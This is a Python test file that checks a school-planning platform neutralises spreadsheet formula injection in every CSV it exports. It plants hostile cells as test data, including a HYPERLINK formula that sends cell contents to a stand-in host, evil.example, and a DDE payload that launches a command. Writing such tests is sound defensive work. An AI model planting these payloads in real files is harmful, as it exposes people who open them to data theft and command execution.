"""No CSV the platform writes can carry a spreadsheet formula (capacity/reports/csv.py).

The last tests plant formulas where people and files put text (a goal, a custom
measure, a school name, a column name of an uploaded file) and scan every CSV
output: the plans download and command, `capacity identify --format csv`, the
problems download of an upload and `capacity import ... --problems FILE`.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from typer.testing import CliRunner

from capacity.cli import app
from capacity.planning import services
from capacity.reports.csv import PLAIN_NUMBER, csv_text, neutralise

runner = CliRunner()
DATA = Path(__file__).resolve().parents[1] / "data" / "results"
LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Open the plan")'


@pytest.mark.parametrize(
    "text",
    [LINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "-5%", "-0x10"],
)
def test_it_puts_an_apostrophe_before_text_a_spreadsheet_would_run(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [-3.5, -5, 0, Decimal("-1.25"), None, "-3.5", "-5", "+2", "-1e3", "Aspen", "", "a=b", " =1+1"],
)
def test_it_leaves_numbers_plain_numbers_and_ordinary_text_alone(value: object) -> None:
    assert neutralise(value) == value


def test_the_written_csv_holds_the_neutralised_cells() -> None:
    text = csv_text(["name", "value"], [[LINK, -3.5], ["-5", "@x"]])
    assert list(csv.reader(io.StringIO(text))) == [
        ["name", "value"],
        ["'" + LINK, "-3.5"],
        ["-5", "'@x"],
    ]


def formula_cells(text: str) -> list[str]:
    """Every cell of a CSV that a spreadsheet would run as a formula."""
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not PLAIN_NUMBER.fullmatch(cell)
    ]


@pytest.fixture
def planted_plan(world):
    from tests.planning.test_exports import assessment

    principal = world.personas["principal_a1"]
    plan = services.plan_create(
        user=principal, school=world.school_a1, school_year="2018-19", title=LINK
    )
    goal = services.goal_add(
        plan=plan, user=principal, seen=plan.version, statement=LINK, area="mathematics"
    )
    services.target_add(
        goal=goal,
        user=principal,
        seen=plan.version,
        measure="custom",
        description="@SUM(1+1)",
        baseline_year="2017-18",
        baseline_value=40.0,
        target_value=60.0,
        target_year="2019-20",
    )
    services.target_add(
        goal=goal,
        user=principal,
        seen=plan.version,
        assessment=assessment("G6-MATH"),
        baseline_year="2017-18",
        baseline_value=40.0,
        target_value=60.0,
        target_year="2019-20",
    )
    return plan


def test_no_plans_csv_carries_a_formula(client, world, planted_plan) -> None:
    client.force_login(world.personas["ministry"])
    download = client.get("/plans/export.csv").content.decode()
    rows = list(csv.DictReader(io.StringIO(download)))
    assert {row["goal"] for row in rows} == {"'" + LINK} and "'@SUM(1+1)" in {
        row["description"] for row in rows
    }
    assert {row["baseline_value"] for row in rows} == {"40"}  # the figures stay numbers
    command = runner.invoke(app, ["plans", "export", "--format", "csv"])
    assert command.exit_code == 0, command.output
    for text in (download, command.stdout):
        assert formula_cells(text) == []


def test_no_identification_csv_carries_a_formula(tmp_path: Path) -> None:
    planted = tmp_path / "long.csv"
    planted.write_text(
        (DATA / "long.csv")
        .read_text(encoding="utf-8")
        .replace("Aspen Public School", LINK.replace('"', '""').join('""')),
        encoding="utf-8",
    )
    policy = tmp_path / "one-year.toml"
    policy.write_text(
        'name = "one-year"\nversion = 1\ntitle = "Under 50% on 4 of 6, one year"\n[rule]\n'
        'assessments = ["G3-READ", "G3-WRITE", "G3-MATH", "G6-READ", "G6-WRITE", "G6-MATH"]\n'
        "threshold = 50.0\nmin_assessments_below = 4\nyears = 1\n"
    )
    result = runner.invoke(
        app, ["identify", "--results", str(planted), "--policy", str(policy), "--format", "csv"]
    )
    assert result.exit_code == 0, result.output
    assert "'" + LINK in {row["school_name"] for row in csv.DictReader(io.StringIO(result.stdout))}
    assert formula_cells(result.stdout) == []


def test_a_problems_csv_neutralises_a_column_or_reason_taken_from_the_file() -> None:
    from capacity.imports.report import ImportReport

    report = ImportReport(kind="results", source="x.csv")
    report.problem(1, LINK, "-unknown column")
    rows = list(csv.reader(io.StringIO(report.problems_csv())))
    assert rows[1] == ["1", "'" + LINK, "'-unknown column"]


def test_no_problems_csv_carries_a_formula(client, world, settings, tmp_path) -> None:
    settings.MEDIA_ROOT = tmp_path
    bad = (
        "school_number,school_year,assessment,group,participating,pct_at_standard,status\n"
        "=HYPERLINK(1),2018-19,G3-READ,all,40,=1+1,@nr\n"
    )
    client.force_login(world.personas["ministry"])
    client.post("/evidence/imports/", {"file": SimpleUploadedFile("results.csv", bad.encode())})
    from capacity.evidence.models import ResultImport

    job = ResultImport.objects.get()
    assert job.state == ResultImport.State.REJECTED, job.summary
    download = client.get(f"/evidence/imports/{job.pk}/problems.csv").content.decode()
    source = tmp_path / "results.csv"
    source.write_text(bad, encoding="utf-8")
    problems = tmp_path / "problems.csv"
    command = runner.invoke(app, ["import", "results", str(source), "--problems", str(problems)])
    assert command.exit_code == 1
    for text in (download, problems.read_text(encoding="utf-8")):
        assert len(list(csv.reader(io.StringIO(text)))) > 1  # there are problems to scan
        assert formula_cells(text) == []
